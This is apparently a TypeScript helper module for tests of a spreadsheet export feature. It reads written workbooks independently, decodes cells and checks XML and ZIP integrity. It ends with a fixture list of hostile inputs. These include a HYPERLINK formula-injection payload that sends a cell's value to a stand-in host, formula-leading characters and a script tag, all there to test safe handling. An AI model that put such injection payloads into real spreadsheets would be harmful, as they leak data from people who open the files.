/** Shared by the export tests: temporary folders, row sources, and independent reading of what was written. */
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SaxesParser } from 'saxes';
import ExcelJS from 'exceljs';
import { readParts } from './export-zip-reader';

export function tempDir(t: { after: (fn: () => void) => void }): string {
  const dir = mkdtempSync(join(tmpdir(), 'wolkvox-export-test-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

/** Rows as the store would hand them over: async batches. */
export async function* inBatches<T>(rows: T[], size = 7): AsyncGenerator<T[]> {
  for (let i = 0; i < rows.length; i += size) yield rows.slice(i, i + size);
}

/** Every file in `dir` (hidden ones too), to prove no temporary file was left behind. */
export const filesIn = (dir: string): string[] => readdirSync(dir).sort();

/**
 * The workbook as an independent reader sees it: exceljs reads the cells, and the test's own ZIP reader (written
 * from the specification) keeps the raw package parts for checks at the XML level.
 */
export interface ReadWorkbook {
  book: ExcelJS.Workbook;
  parts: Map<string, Buffer>;
  sheetNames: string[];
  sheet(name: string): ExcelJS.Worksheet;
}

export async function readWorkbook(path: string): Promise<ReadWorkbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  const parts = readParts(readFileSync(path));
  // decodeXstring below is right only for inline strings: exceljs decodes the escapes of shared ones itself.
  if (parts.has('xl/sharedStrings.xml')) throw new Error('the export wrote shared strings; the test reader expects inline ones');
  return {
    book,
    parts,
    sheetNames: book.worksheets.map((w) => w.name),
    sheet: (name) => {
      const found = book.getWorksheet(name);
      if (!found) throw new Error(`no sheet ${name}`);
      return found;
    },
  };
}

/** Raw text of one package part. */
export function partText(workbook: ReadWorkbook, name: string): string {
  const part = workbook.parts.get(name);
  if (!part) throw new Error(`no part ${name}`);
  return part.toString('utf8');
}

export function partNames(workbook: ReadWorkbook): string[] {
  return [...workbook.parts.keys()];
}

/**
 * A cell as the test reads it: `t` is 'n' for a number (dates included: exceljs turns a number with a date
 * format into a Date, which `v` then is), 's' for text, 'b' for a boolean, 'f' for a formula; undefined for an
 * empty cell. `z` is the number format.
 */
export interface ReadCell {
  t: 'n' | 's' | 'b' | 'f' | 'e';
  v: number | string | boolean | Date;
  z: string | undefined;
  type: ExcelJS.ValueType;
}

export function cell(sheet: ExcelJS.Worksheet, address: string): ReadCell | undefined {
  const c = sheet.getCell(address);
  const z = c.numFmt || undefined;
  switch (c.type) {
    case ExcelJS.ValueType.Null:
      return undefined;
    case ExcelJS.ValueType.Number:
      return { t: 'n', v: c.value as number, z, type: c.type };
    case ExcelJS.ValueType.Date:
      return { t: 'n', v: c.value as Date, z, type: c.type };
    case ExcelJS.ValueType.String:
    case ExcelJS.ValueType.SharedString:
      return { t: 's', v: decodeXstring(c.text), z, type: c.type };
    case ExcelJS.ValueType.RichText:
      return { t: 's', v: (c.value as ExcelJS.CellRichTextValue).richText.map((r) => r.text).join(''), z, type: c.type };
    case ExcelJS.ValueType.Boolean:
      return { t: 'b', v: c.value as boolean, z, type: c.type };
    case ExcelJS.ValueType.Formula:
      return { t: 'f', v: c.text, z, type: c.type };
    default:
      return { t: 'e', v: c.text, z, type: c.type };
  }
}

/**
 * ECMA-376 Part 1, 22.9.2.19 (ST_Xstring): `_xHHHH_` in cell text stands for that UTF-16 unit, and `_x005F_`
 * escapes a literal underscore. Excel decodes it in inline strings; exceljs 4.4 decodes it only in shared
 * strings, so the test does it for the inline strings the export writes.
 */
function decodeXstring(text: string): string {
  return text.replace(/_x([0-9A-Fa-f]{4})_/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));
}

/** Every row as an array of values (empty cells undefined), the header row first. */
export function sheetArrays(sheet: ExcelJS.Worksheet): unknown[][] {
  const rows: unknown[][] = [];
  const width = sheet.columnCount;
  for (let r = 1; r <= sheet.rowCount; r++) {
    const row: unknown[] = [];
    for (let c = 1; c <= width; c++) row.push(cell(sheet, address(r, c))?.v);
    while (row.length > 0 && row[row.length - 1] === undefined) row.pop();
    rows.push(row);
  }
  return rows;
}

/** Data rows keyed by the header row's text; empty cells get `empty` (absent when it is undefined). */
export function sheetRecords(sheet: ExcelJS.Worksheet, empty?: unknown): Array<Record<string, unknown>> {
  const [header = [], ...data] = sheetArrays(sheet);
  return data.map((row) => {
    const record: Record<string, unknown> = {};
    header.forEach((name, i) => {
      const value = row[i] ?? empty;
      if (value !== undefined) record[String(name)] = value;
    });
    return record;
  });
}

/** A1-style address of a 1-based row and column, e.g. address(2, 28) = 'AB2'. */
export function address(row: number, column: number): string {
  let letters = '';
  for (let c = column; c > 0; c = Math.floor((c - 1) / 26)) letters = String.fromCharCode(65 + ((c - 1) % 26)) + letters;
  return `${letters}${row}`;
}

/** Throws unless `xml` is well-formed XML 1.0 with namespaces (saxes is a strict, conforming parser). */
export function assertWellFormed(xml: string, name: string): void {
  const parser = new SaxesParser({ xmlns: true });
  parser.on('error', (error) => {
    throw new Error(`${name}: ${error.message}`);
  });
  parser.write(xml).close();
}

/** Info-ZIP's own test of the archive (CRC of every entry), when the machine has it. */
export function unzipTest(path: string): { available: boolean; ok: boolean; output: string } {
  const r = spawnSync('unzip', ['-tq', path], { encoding: 'utf8' });
  if (r.error) return { available: false, ok: false, output: '' };
  return { available: true, ok: r.status === 0, output: `${r.stdout}${r.stderr}` };
}

/**
 * The wall clock a date cell shows. exceljs decodes the serial on its own into a Date whose UTC fields are the
 * cell's wall clock (Excel dates have no zone); a bare serial is decoded here from its definition (days since
 * 1899-12-30, the epoch that absorbs Excel's 1900 leap-year quirk for dates after February 1900).
 */
export function serialToWallClock(value: number | Date | string | boolean): string {
  const ms = value instanceof Date ? value.getTime() : Math.round((Number(value) - 25_569) * 86_400_000);
  return new Date(Math.round(ms / 1000) * 1000).toISOString().replace('T', ' ').slice(0, 19);
}

export const HOSTILE: Array<{ label: string; input: string; expected: string }> = [
  { label: 'ordinary', input: 'Buenos días, ¿en qué le puedo ayudar?', expected: 'Buenos días, ¿en qué le puedo ayudar?' },
  { label: 'controls', input: 'a\u0000b\u0001c\u0008d\u000Be\u000Cf\u000Eg\u001Fh', expected: 'abcdefgh' },
  { label: 'tab, LF, CR kept', input: 'one\ttwo\nthree\r\nfour\rfive', expected: 'one\ttwo\nthree\r\nfour\rfive' },
  { label: 'lone surrogates', input: 'x\uD800y\uDFFFz\uDBFF', expected: 'xyz' },
  { label: 'U+FFFE/U+FFFF', input: 'p\uFFFEq\uFFFFr', expected: 'pqr' },
  { label: 'hyperlink formula', input: '=HYPERLINK("http://evil.example/?x="&A1,"click")', expected: '=HYPERLINK("http://evil.example/?x="&A1,"click")' },
  { label: 'plus', input: '+1', expected: '+1' },
  { label: 'minus', input: '-2+3', expected: '-2+3' },
  { label: 'at', input: '@SUM(A1:A9)', expected: '@SUM(A1:A9)' },
  { label: 'leading tab', input: '\t=1+1', expected: '\t=1+1' },
  { label: 'leading CR', input: '\r=1+1', expected: '\r=1+1' },
  { label: 'emoji', input: 'Gracias 👍🏽 familia 👨‍👩‍👧 bandera 🇨🇴 𠜎', expected: 'Gracias 👍🏽 familia 👨‍👩‍👧 bandera 🇨🇴 𠜎' },
  { label: 'arabic', input: 'مرحبا، أحتاج مساعدة في طلبي رقم 123', expected: 'مرحبا، أحتاج مساعدة في طلبي رقم 123' },
  { label: 'hebrew with marks', input: '\u200Fשלום עולם (order 55)\u200E', expected: '\u200Fשלום עולם (order 55)\u200E' },
  { label: 'html', input: '<script>alert("x")</script> &amp; <b>bold</b> ]]>', expected: '<script>alert("x")</script> &amp; <b>bold</b> ]]>' },
  { label: 'OOXML escape look-alike', input: 'id _x0041_ and _x00e9_', expected: 'id _x0041_ and _x00e9_' },
  { label: 'surrounding spaces', input: '  padded  ', expected: '  padded  ' },
  { label: 'quotes and commas', input: 'He said "yes", then left', expected: 'He said "yes", then left' },
];
